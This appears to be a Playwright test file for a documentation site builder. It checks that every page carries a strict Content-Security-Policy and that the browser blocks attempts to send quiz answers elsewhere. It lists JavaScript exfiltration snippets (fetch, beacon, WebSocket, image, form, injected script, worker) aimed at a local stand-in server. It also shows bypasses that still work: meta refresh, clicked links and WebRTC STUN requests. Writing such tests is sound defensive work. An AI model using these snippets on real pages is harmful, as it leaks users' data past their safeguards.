"""The promise that the browser keeps: a policy in every page, what it stops, and what works under it all the same."""

from __future__ import annotations

import re
import socket
from typing import TYPE_CHECKING

from readiness.output.policy import with_policy
from tests.support.project import build, spoil
from tests.support.servers import RootHandler

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from playwright.sync_api import Browser, Page


POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
ADD = "document.body.append(Object.assign(document.createElement"
# Each is tried on a page of the site: what it does, and the rule that stops it. `away` is an address elsewhere.
ATTEMPTS = {
    "fetch": (
        "fetch(away, { method: 'POST', body: 'answers', mode: 'no-cors' }).catch(() => {})",
        "connect-src",
    ),
    "XMLHttpRequest": (
        "const asking = new XMLHttpRequest(); asking.open('POST', away); asking.send('answers')",
        "connect-src",
    ),
    "beacon": ("navigator.sendBeacon(away, 'answers')", "connect-src"),
    "WebSocket": ("new WebSocket(away.replace('http', 'ws'))", "connect-src"),
    "event stream": ("new EventSource(away)", "connect-src"),
    "image": ("new Image().src = away", "img-src"),
    "picture of a style": ("document.body.style.background = `url('${away}')`", "img-src"),
    "style sheet": (f"{ADD}('link'), {{ rel: 'stylesheet', href: away }}))", "style-src-elem"),
    "frame": (f"{ADD}('iframe'), {{ src: away }}))", "frame-src"),
    "object": (f"{ADD}('object'), {{ data: away }}))", "object-src"),
    "form": (
        f"{ADD}('form'), {{ action: away, method: 'post' }})); document.forms[0].submit()",
        "form-action",
    ),
    "form of this page": (
        f"{ADD}('form'), {{ action: '' }})); [...document.forms].at(-1).submit()",
        "form-action",
    ),
    "base": (
        "document.head.append(Object.assign(document.createElement('base'), { href: away }))",
        "base-uri",
    ),
    "script from elsewhere": (f"{ADD}('script'), {{ src: away }}))", "script-src-elem"),
    "inline script": (f"{ADD}('script'), {{ textContent: 'window.ran = true' }}))", "script-src-elem"),
    "script in an address": (
        f"{ADD}('a'), {{ href: 'javascript:window.ran = true' }})); document.body.lastChild.click()",
        "script-src-elem",
    ),
    "inline style": (f"{ADD}('style'), {{ textContent: 'p {{ color: red }}' }}))", "style-src-elem"),
    "style in a tag": ("document.body.setAttribute('style', 'color: red')", "style-src-attr"),
    "script in a tag": ("document.body.setAttribute('onclick', 'window.ran = true')", "script-src-attr"),
    "worker": ("try { new Worker(URL.createObjectURL(new Blob(['fetch(away)']))) } catch {}", "worker-src"),
}
STOPPED = """away => new Promise(stopped => {{
    addEventListener('securitypolicyviolation', event => stopped(event.effectiveDirective), {{ once: true }});
    setTimeout(stopped, 3000, 'nothing stopped it');
    {attempt};
}})"""


# Asks a server where this browser can be called from, as every call between browsers begins.
CALL = """async server => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: server }] });
    call.createDataChannel('answers');
    await call.setLocalDescription();
}"""


def test_every_page_has_its_policy_before_its_first_script(site: Path) -> None:
    for file in site.rglob("*.html"):
        text = file.read_text("utf-8")
        policies = POLICY.findall(text)
        assert len(policies) == (2 if file.name == "readiness-quiz.html" else 1), file
        assert text.index("<meta charset") < text.index("http-equiv") < text.index("<script"), file
        assert text.index("charset") < 1024, file  # browsers look no further
        for policy in policies:
            rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
            assert rules["default-src"] == "'none'"
            assert "unsafe" not in rules["script-src"]
            assert "unsafe-inline" not in rules["style-src"]
        path = file.relative_to(site).as_posix()
        assert with_policy(text, path) == text  # a page that an earlier build wrote is not put under two


def test_the_browser_stops_whatever_would_carry_answers_away(
    browser: Browser, address: str, serve: Callable[..., str], tmp_path: Path
) -> None:
    asked: list[str] = []

    class Stranger(RootHandler):
        """Notes every request."""

        def parse_request(self) -> bool:
            """Note this one."""
            known = super().parse_request()
            asked.append(self.path)
            return known

    away = serve(tmp_path, Stranger)
    with browser.new_context(service_workers="block") as context:
        page = context.new_page()
        page.goto(address + "about/method/")
        for name, (attempt, rule) in ATTEMPTS.items():
            assert page.evaluate(STOPPED.format(attempt=attempt), away + name) == rule, name
        assert page.url == address + "about/method/"
        assert page.evaluate("[window.ran, document.baseURI]") == [None, page.url]
        assert asked == []
        page.reload()
        # What no policy can stop, and docs/about/privacy.md says so: a link that is clicked.
        page.evaluate(f"away => {ADD}('a'), {{ href: away, textContent: 'Away' }}))", away + "?answers")
        page.get_by_role("link", name="Away", exact=True).click()
        page.wait_for_url(away + "?answers")
        assert asked[0] == "/?answers"


def test_a_teams_own_script_runs_and_its_repository_is_a_mere_link(
    page: Page, small_project: Path, serve: Callable[..., str], site: Path
) -> None:
    spoil(
        small_project,
        "mkdocs.yml",
        "site_name:",
        "repo_url: https://github.com/team/site\nsite_name:",
    )
    button = '<button onclick="greet()">Greet</button>'
    styled = """<style>#sheet { opacity: 0.5 }</style><p id="sheet"></p><p id="tag" style="opacity: &#48;.25"></p>"""
    with (small_project / "docs/about/cite.md").open("a") as own:
        own.write(f"\n<script>document.title = 'Our own'</script>\n\n{styled}\n\n{button}\n")
    refused = build(small_project, small_project / "site")
    assert refused.returncode == 1
    assert "docs/about/cite.md: a tag of this page has “onclick”" in refused.stderr
    assert "Traceback" not in refused.stderr
    spoil(
        small_project, "docs/about/cite.md", button, '<script type="application/json">{"not": "run"}</script>'
    )
    done = build(small_project, small_project / "site")
    assert done.returncode == 0, done.stderr
    page.goto(serve(small_project / "site") + "about/cite/")
    page.wait_for_function("() => window.component$")  # the theme's script has come, and asks nobody
    assert page.title() == "Our own"
    source = page.locator("header .md-source")
    assert source.get_attribute("href") == "https://github.com/team/site"
    assert source.locator(".md-source__repository").inner_text() == "GitHub"
    policies = [
        POLICY.findall((built / "about/cite/index.html").read_text("utf-8"))[0]
        for built in (site, small_project / "site")
    ]
    before, after = (set(re.findall(r"'sha256-[^']+'", policy)) for policy in policies)
    assert len(after - before) == 3  # the script's and the styles', and not the data's
    opacity = "['sheet', 'tag'].map(id => getComputedStyle(document.getElementById(id)).opacity)"
    assert page.evaluate(opacity) == ["0.5", "0.25"]


# What leaves a page whatever its policy says: how to try it, and how the stranger hears of it. docs/about/privacy.md
# says both. Neither is the site's doing; what got into a page anyhow could use them.
def test_no_policy_stops_a_refresh_that_gets_into_a_page(
    browser: Browser, address: str, serve: Callable[..., str], tmp_path: Path
) -> None:
    away = serve(tmp_path, RootHandler)
    with browser.new_context(service_workers="block") as context:
        page = context.new_page()
        page.goto(address + "about/method/")
        with page.expect_request(away + "?answers"):
            page.evaluate(
                f"away => {{ {ADD}('meta'), {{ httpEquiv: 'refresh', content: `0; url=${{away}}?answers` }})) }}",
                away,
            )
        page.wait_for_url(away + "?answers")


def test_no_policy_stops_a_call_between_browsers(browser: Browser, address: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stranger:
        stranger.bind(("127.0.0.1", 0))
        stranger.settimeout(10)
        with browser.new_context(service_workers="block") as context:
            page = context.new_page()
            page.goto(address + "about/method/")
            page.evaluate(CALL, f"stun:127.0.0.1:{stranger.getsockname()[1]}")
            asked, _ = stranger.recvfrom(1024)
            assert (
                asked[4:8] == b"\x21\x12\xa4\x42"
            )  # as such a call begins, and a longer one can carry answers
